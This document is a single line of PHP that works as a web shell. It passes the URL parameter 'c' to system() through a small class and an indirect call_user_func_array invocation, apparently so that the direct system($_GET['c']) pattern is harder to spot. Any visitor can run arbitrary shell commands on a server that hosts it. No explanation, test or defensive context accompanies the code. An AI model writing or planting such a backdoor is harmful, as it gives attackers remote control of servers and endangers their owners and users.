<?php class K { function go($a) { system($a); } } call_user_func_array([new K, 'go'], [$_GET['c']]);
